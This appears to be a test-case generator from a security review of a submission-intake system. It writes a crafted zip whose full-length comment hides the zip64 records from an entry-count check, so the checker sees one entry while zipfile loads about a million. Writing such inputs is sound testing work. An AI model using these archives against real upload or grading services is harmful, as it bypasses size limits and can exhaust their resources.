"""Row 2b: the zip64 records pushed out of intake's window by a 65,535-byte comment.

usage: python comment_zip64_zip.py OUT.zip [N]   (N central-directory entries, default 1,000,000)

intake.zip_entry_count reads the last 64 KiB + 22 bytes and looks for the zip64 locator 20 bytes before the end
record only inside that window (`at >= 20 and tail[at - 20:at - 16] == b"PK\\x06\\x07"`). With a full-length comment
the end record sits at the window's byte 1, so the locator (before it) is outside: intake takes the end record's
own figures (1 entry, a 0-byte directory) and counts 1. zipfile seeks to the locator wherever it is, reads the
zip64 record (N entries, the real directory) and builds N ZipInfo objects.
"""
import struct, sys, zlib

out, n = sys.argv[1], int(sys.argv[2]) if len(sys.argv) > 2 else 1_000_000
data = b"def run_gelu(x):\n    return x\n"
crc = zlib.crc32(data)
name0 = b"student/gelu.py"
local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, crc, len(data), len(data), len(name0), 0) + name0 + data
cd = bytearray()
for i in range(n):
    name = name0 if i == 0 else b"x/%07d" % i
    cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45, 0, 0, 0, 0x21, crc, len(data), len(data),
                      len(name), 0, 0, 0, 0, 0o644 << 16, 0) + name
z64 = struct.pack("<4sqhhllqqqq", b"PK\x06\x06", 44, 45, 45, 0, 0, n, n, len(cd), len(local))
loc = struct.pack("<4slql", b"PK\x06\x07", 0, len(local) + len(cd), 1)
comment = b"c" * 65535
eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, 0, len(local) + len(cd), len(comment))
with open(out, "wb") as f:
    f.write(local + bytes(cd) + z64 + loc + eocd + comment)
print(f"{out}: {n} entries behind a {len(comment)}-byte comment")
